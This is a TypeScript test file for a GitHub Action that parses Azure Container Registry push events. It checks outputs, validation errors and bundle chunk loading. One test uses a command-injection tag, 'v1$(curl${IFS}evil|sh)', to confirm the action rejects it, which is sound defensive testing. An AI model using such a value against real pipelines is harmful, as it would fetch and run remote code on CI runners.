// The bundled action, run as a process with the runner's contract.
import { spawnSync } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { actionManifest, createStepEnvironment, repoRoot, runAction } from '../../scripts/runner.mjs'
import { parseEvent } from '../../src/event/parse.js'
import { buildOutputs, OUTPUT_NAMES } from '../../src/action/outputs.js'
import { fixture, fixtureNames } from '../support/fixtures.js'

const dispatch = (clientPayload: unknown) => ({ action: 'acr-push', client_payload: clientPayload })

describe('dist/index.js on a repository_dispatch run', () => {
  test('sets the outputs of the sample push', () => {
    const result = runAction({ event: dispatch(fixture('native-push.json')) })
    expect(result.status, result.stdout).toBe(0)
    expect(result.outputs).toMatchObject({
      matched: 'true',
      action: 'push',
      repository: 'team/web',
      tag: 'v1.4.2',
      digest: 'sha256:af44d698bd46ce657f1d8e2078bcb3d0e1e1a10cdbe065e1b070ff0085750c74',
      registry: 'myregistry.azurecr.io',
      image: 'myregistry.azurecr.io/team/web:v1.4.2',
      'event-id': 'cb8c3971-9adc-488b-b1f6-43cbb4974ff5'
    })
    expect(result.stdout).toContain('::group::ACR push event: outputs')
    expect(result.summary).toContain('myregistry.azurecr.io/team/web:v1.4.2')
  })

  test.each(fixtureNames())('%s: the bundle sets what the source computes', name => {
    const result = runAction({ event: dispatch(fixture(name)) })
    expect(result.status, result.stdout).toBe(0)
    expect(result.outputs).toEqual(buildOutputs(parseEvent(fixture(name), 'client_payload'), { matched: true }))
  })

  test('a hostile tag fails the step, names the field, and sets no output', () => {
    const payload = fixture('native-push.json') as any
    payload.target.tag = 'v1$(curl${IFS}evil|sh)'
    const result = runAction({ event: dispatch(payload) })
    expect(result.status).toBe(1)
    expect(result.stdout).toContain('::error::client_payload.target.tag: must be an OCI tag')
    expect(result.outputs).toEqual({})
    expect(result.summary).toBe('')
  })

  test('a missing client_payload says what the relay must send', () => {
    const result = runAction({ event: { action: 'acr-push' } })
    expect(result.status).toBe(1)
    expect(result.stdout).toMatch(/::error::client_payload: is missing from the repository_dispatch event/)
    expect(result.outputs).toEqual({})
  })
})

describe('dist/index.js with the payload input', () => {
  test('reads the event from payload on workflow_dispatch', () => {
    const result = runAction({
      eventName: 'workflow_dispatch',
      event: { inputs: {} },
      inputs: { payload: JSON.stringify(fixture('eventgrid-push.json')) }
    })
    expect(result.status, result.stdout).toBe(0)
    expect(result.outputs.repository).toBe('team/web')
    expect(JSON.parse(result.outputs.json!).shape).toBe('event-grid')
  })

  test('payload wins over client_payload', () => {
    const result = runAction({
      event: dispatch(fixture('native-push.json')),
      inputs: { payload: JSON.stringify(fixture('native-chart-push.json')) }
    })
    expect(result.outputs.action).toBe('chart_push')
  })

  test.each([
    ['not JSON', (path: string) => writeFileSync(path, '{"action":')],
    ['a directory', (path: string) => mkdirSync(path)]
  ])('with payload set, a runner event file that is %s is not read', (_, spoil) => {
    const folder = mkdtempSync(join(tmpdir(), 'acr-event-file-'))
    const eventPath = join(folder, 'event.json')
    spoil(eventPath)
    try {
      const result = runAction({
        eventName: 'workflow_dispatch',
        inputs: { payload: JSON.stringify(fixture('native-push.json')) },
        env: { GITHUB_EVENT_PATH: eventPath }
      })
      expect(result.status, result.stdout).toBe(0)
      expect(result.outputs).toMatchObject({ matched: 'true', repository: 'team/web' })
      // Without payload the same file is read, and its fault named.
      const without = runAction({ eventName: 'repository_dispatch', env: { GITHUB_EVENT_PATH: eventPath } })
      expect(without.status).toBe(1)
      expect(without.stdout).toContain(`::error::Cannot read the triggering event at GITHUB_EVENT_PATH (${eventPath})`)
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })

  test('invalid JSON in payload is reported as such', () => {
    const result = runAction({ eventName: 'workflow_dispatch', inputs: { payload: '{"action":' } })
    expect(result.status).toBe(1)
    expect(result.stdout).toMatch(/::error::payload: is not valid JSON at line 1, column 11 \(the end\)/)
    expect(result.outputs).toEqual({})
  })

  test('a payload input nested deeper than the bound is refused with its path, not a crash', () => {
    const deep = `${'['.repeat(40_000)}${']'.repeat(40_000)}` // an environment variable holds at most 128 KiB
    const payload = JSON.stringify({
      action: 'push',
      target: { repository: 'team/web', digest: `sha256:${'a'.repeat(64)}`, annotations: 'DEEP' }
    }).replace('"DEEP"', deep)
    const result = runAction({ eventName: 'workflow_dispatch', inputs: { payload } })
    expect(result.status).toBe(1)
    expect(result.stdout).toMatch(/::error::payload\.target\.annotations(\[0\])+: is nested deeper than 32 levels/)
    expect(result.stdout).not.toMatch(/Maximum call stack/)
    expect(result.outputs).toEqual({})
  })

  test('errors in payload are rooted at payload', () => {
    const result = runAction({ eventName: 'workflow_dispatch', inputs: { payload: '{"action":"push","target":{"repository":"UP","digest":"x"}}' } })
    expect(result.stdout).toContain('::error::payload.target.repository:')
  })

  test('another trigger without payload names the trigger and the fix', () => {
    const result = runAction({ eventName: 'push', event: { ref: 'refs/heads/main' } })
    expect(result.status).toBe(1)
    expect(result.stdout).toMatch(/triggered by "push", which carries no ACR event/)
    expect(result.stdout).toContain('payload: ${{ inputs.payload }}')
  })
})

describe('action.yml', () => {
  test('declares exactly the outputs the action sets', () => {
    expect(Object.keys(actionManifest.outputs).sort()).toEqual([...OUTPUT_NAMES].sort())
  })

  test('describes every input and output, and runs on node24', () => {
    for (const spec of [...Object.values(actionManifest.inputs), ...Object.values(actionManifest.outputs)] as any[]) {
      expect(spec.description).toMatch(/\w{3,}/)
    }
    expect(actionManifest.runs.using).toBe('node24')
    expect(actionManifest.runs.main).toBe('dist/index.js')
  })
})

// A step pays for what its inputs ask: one without filters, verify or an
// identity input runs on dist/index.js alone. The attestation inputs' defaults
// (attestation-source: any is set on every step) once made every plain step
// load the policy's chunk, 3.6 M instructions more.
describe('dist/index.js alone', () => {
  test('a plain step needs no lazy chunk', () => {
    const copy = mkdtempSync(join(tmpdir(), 'acr-dist-alone-'))
    const step = createStepEnvironment({ event: dispatch(fixture('native-push.json')) })
    try {
      for (const name of ['index.js', 'package.json']) copyFileSync(join(repoRoot, 'dist', name), join(copy, name))
      const result = spawnSync(process.execPath, [join(copy, 'index.js')], { cwd: step.work, env: step.env, encoding: 'utf8' })
      expect(result.status, result.stdout + result.stderr).toBe(0)
      expect(step.read().outputs).toMatchObject({ matched: 'true', repository: 'team/web', tag: 'v1.4.2' })
    } finally {
      step.cleanup()
      rmSync(copy, { recursive: true, force: true })
    }
  })
})

// patches/ makes @actions/core load its OIDC client (and with it @actions/http-client
// and undici, about 1 MB) on first use; a step that never asks for an ID token
// must not need that chunk at all, which is what makes it cheap to start.
describe('dist/ without the chunk that holds undici', () => {
  const dist = join(repoRoot, 'dist')
  const undiciChunks = readdirSync(dist).filter(name => name.endsWith('.js') && readFileSync(join(dist, name), 'utf8').includes('llhttp'))

  test.each([
    ['a plain step', {}],
    ['a gate on tags and semver', { tags: 'v*', semver: '^1' }]
  ])('%s runs and sets its outputs', (_, inputs) => {
    expect(undiciChunks).toHaveLength(1)
    expect(undiciChunks).not.toContain('index.js')
    const copy = mkdtempSync(join(tmpdir(), 'acr-dist-'))
    const step = createStepEnvironment({ event: dispatch(fixture('native-push.json')), inputs })
    try {
      for (const name of readdirSync(dist))
        if (/\.js(on)?$/.test(name) && !undiciChunks.includes(name)) copyFileSync(join(dist, name), join(copy, name))
      const result = spawnSync(process.execPath, [join(copy, 'index.js')], { cwd: step.work, env: step.env, encoding: 'utf8' })
      expect(result.status, result.stdout + result.stderr).toBe(0)
      expect(step.read().outputs).toMatchObject({ matched: 'true', repository: 'team/web', tag: 'v1.4.2' })
    } finally {
      step.cleanup()
      rmSync(copy, { recursive: true, force: true })
    }
  })
})
